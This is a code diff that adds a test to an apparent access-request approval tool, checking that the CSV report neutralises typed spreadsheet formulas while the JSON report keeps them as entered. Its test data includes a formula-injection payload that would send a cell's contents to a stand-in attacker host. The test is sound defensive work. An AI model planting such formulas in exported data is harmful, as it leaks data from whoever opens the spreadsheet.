@@ -78,6 +78,24 @@ async def test_verify_who_and_report_agree_with_the_grants_made(world: World) ->
     assert (table[0]["approvers"], table[0]["mfa"]) == ("U0APPROVER1", "no")
 
 
+async def test_a_csv_report_makes_a_typed_formula_inert(world: World) -> None:
+    """Reasons typed as `=HYPERLINK(…)`, `+1`, `-2`, `@SUM(…)` come out of the CSV report starting with `'`, so a
+    spreadsheet shows them as text instead of running them; the JSON report keeps them as typed."""
+    typed = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1 pager", "-2 pager", "@SUM(A1:A9)"]
+    ids = []
+    for reason in typed:  # denied one by one: a person has at most 3 pending
+        request = await world.request("U0DEV1", f"request lb-prod 30m {reason}")
+        world.click("U0APPROVER1", "jit_deny", request)
+        ids.append(request.id)
+    log = str(world.audit_path)
+
+    table = {row["request_id"]: row["reason"] for row in csv.DictReader(io.StringIO(run("report", log)[1]))}
+    rows = {row["request_id"]: row["reason"] for row in json_lines(run("report", "--format", "json", log)[1])}
+
+    assert ["'" + reason for reason in typed] == [table[request_id] for request_id in ids]
+    assert typed == [rows[request_id] for request_id in ids]
+
+
 async def test_a_checkpoint_is_posted_as_chain_seq_hash_to_the_audit_channel(world: World, tmp_path: Path) -> None:
     """The witness posts CHAIN:SEQ:HASH to the approver channel, or to `audit_channel` once the policy names one."""
     world.rt.audit.start_chain("worker", witness=world.notifier.post_checkpoint)
